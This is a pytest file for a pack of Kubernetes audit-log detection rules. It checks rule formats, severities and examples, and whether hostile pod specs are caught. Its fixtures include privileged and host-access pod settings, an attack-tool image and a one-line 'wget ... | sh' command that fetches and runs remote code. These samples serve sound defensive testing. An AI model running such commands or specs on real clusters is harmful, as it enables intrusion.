"""What every rule of the pack promises beyond loading: its name, its words, its grouping, and when it keeps quiet."""

import json
import re
from pathlib import Path
from uuid import UUID

import pytest

import anomaly.rules
from anomaly.events.decode import decode_lines
from anomaly.rules import Correlation, pack
from anomaly.rules.document import read_file
from anomaly.rules.needs import needs
from anomaly.testing import event
from tests.anomaly.rules.builders import fires

FOLDER = Path(anomaly.rules.__file__).parent / "pack"
FILES = sorted(FOLDER.glob("*.yml"))
DOCUMENTS = [document for file in FILES for document in read_file(file)]
ALL = list(pack().by_id.values())
RULES = list(pack().rules)
LOUD = [rule for rule in RULES if not rule.silent]
TACTICS = {
    *("reconnaissance", "initial-access", "execution", "persistence", "privilege-escalation"),
    *("defense-evasion", "credential-access", "discovery", "lateral-movement", "collection"),
    *("command-and-control", "exfiltration", "impact"),
}
PEOPLE = (
    *("alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "trent"),
    *("victor", "wendy", "kubernetes-admin"),
)
"""Users of the recorded log the pack was tried on; a rule that names one would be made for that log."""


def named(one):
    return one.id


@pytest.mark.parametrize("file", FILES, ids=lambda file: file.stem)
def test_a_file_has_a_plain_name_and_holds_the_rule_called_so(file):
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", file.stem)
    assert file.stem in pack().by_id


@pytest.mark.parametrize("one", ALL, ids=named)
def test_ids_techniques_and_tactics_are_well_formed(one):
    assert str(UUID(one.card.uuid)) == one.card.uuid
    assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", technique) for technique in one.attack)
    assert one.card.tactics
    assert set(one.card.tactics) <= TACTICS


@pytest.mark.parametrize("document", DOCUMENTS, ids=lambda document: document.data["title"])
def test_severity_and_grouping_are_chosen_and_not_left_to_the_default(document):
    data = document.data
    assert data["level"] in {"informational", "low", "medium", "high", "critical"}
    assert data.get("group_by") or data["correlation"]["group-by"]


@pytest.mark.parametrize("one", [*LOUD, *pack().correlations], ids=named)
def test_two_examples_fire_and_two_keep_quiet_unless_one_says_it_all(one):
    firing = sum(example.firing for example in one.card.examples)
    quiet = len(one.card.examples) - firing
    assert quiet >= 2
    assert firing >= (1 if isinstance(one, Correlation) else 2)


@pytest.mark.parametrize("one", LOUD, ids=named)
def test_a_rule_has_a_sentence_of_its_own_about_a_match(one):
    assert one.says.endswith(".")
    assert "{" in one.says


@pytest.mark.parametrize("document", DOCUMENTS, ids=lambda document: document.data["title"])
def test_no_rule_knows_a_user_of_the_recorded_log(document):
    said = json.dumps({key: value for key, value in document.data.items() if key != "tests"}).casefold()
    assert [name for name in PEOPLE if re.search(rf"\b{name}\b", said)] == []


@pytest.mark.parametrize("rule", RULES, ids=named)
def test_a_refused_attempt_is_at_most_medium_unless_only_an_intruder_makes_it(rule):
    intruders = {"node-credential-used-by-hand", "node-reaches-too-far", "privileged-identity-impersonated"}
    if rule.severity not in {"high", "critical"} or rule.id in intruders:
        return
    refused = [
        example.name
        for example in rule.card.examples
        if example.firing
        and any(json.loads(raw)["responseStatus"].get("code") == 403 for raw in example.events)
    ]
    assert refused == []


@pytest.mark.parametrize("rule", RULES, ids=named)
def test_a_request_whose_body_was_not_kept_never_looks_worse_than_with_it(rule):
    """A lower audit level may blind a rule, but must not make it fire where the whole event keeps it quiet."""
    for example in rule.card.examples:
        if example.firing:
            continue
        for raw in example.events:
            data = json.loads(raw)
            if data.pop("requestObject", None) is None:
                continue
            data.pop("responseObject", None)
            data["level"] = "Metadata"
            (bare,) = decode_lines(json.dumps(data).encode()).events
            assert not fires(rule, bare), example.name


@pytest.mark.parametrize("rule", RULES, ids=named)
def test_rules_about_entering_pods_take_both_verbs(rule):
    """WebSocket clients enter by `get`, SPDY ones by `create`."""
    firing = [json.loads(raw) for one in rule.card.examples if one.firing for raw in one.events]
    entering = [
        data
        for data in firing
        if data.get("objectRef", {}).get("subresource") in {"exec", "attach", "portforward"}
    ]
    for data in entering:
        for verb in ("get", "create"):
            (turned,) = decode_lines(json.dumps(data | {"verb": verb}).encode()).events
            assert fires(rule, turned)


KINDS = {
    "pods": lambda spec: {"spec": spec},
    "apps/deployments": lambda spec: {"spec": {"template": {"spec": spec}}},
    "apps/daemonsets": lambda spec: {"spec": {"template": {"spec": spec}}},
    "apps/statefulsets": lambda spec: {"spec": {"template": {"spec": spec}}},
    "apps/replicasets": lambda spec: {"spec": {"template": {"spec": spec}}},
    "replicationcontrollers": lambda spec: {"spec": {"template": {"spec": spec}}},
    "batch/jobs": lambda spec: {"spec": {"template": {"spec": spec}}},
    "batch/cronjobs": lambda spec: {"spec": {"jobTemplate": {"spec": {"template": {"spec": spec}}}}},
}
SPECS = {
    "privileged-workload": {"containers": [{"name": "a", "securityContext": {"privileged": True}}]},
    "sensitive-host-path-mounted": {"volumes": [{"name": "h", "hostPath": {"path": "/etc/kubernetes"}}]},
    "host-processes-shared": {"hostPID": True},
    "host-network-pod": {"hostNetwork": True},
    "dangerous-capability-added": {
        "containers": [{"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}]
    },
    "attack-image-started": {"containers": [{"image": "aquasec/kube-hunter"}]},
    "shell-one-liner-workload": {"initContainers": [{"args": ["wget -qO- http://203.0.113.9/a | sh"]}]},
}


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("name", SPECS)
def test_what_a_pod_asks_for_is_seen_in_every_kind_of_workload(name, kind):
    body = KINDS[kind](SPECS[name])
    for verb in ("create", "update", "patch"):
        assert fires(pack()[name], event(kind, verb, body=body, name="x", code=200))
        assert not fires(pack()[name], event(kind, verb, body=body, name="x", code=403))


@pytest.mark.parametrize("need", needs(pack()), ids=lambda need: need.rule)
def test_no_audit_level_makes_a_rule_fire_blindly(need):
    assert [reach for reach in need.reaches if reach.blind_below] == []
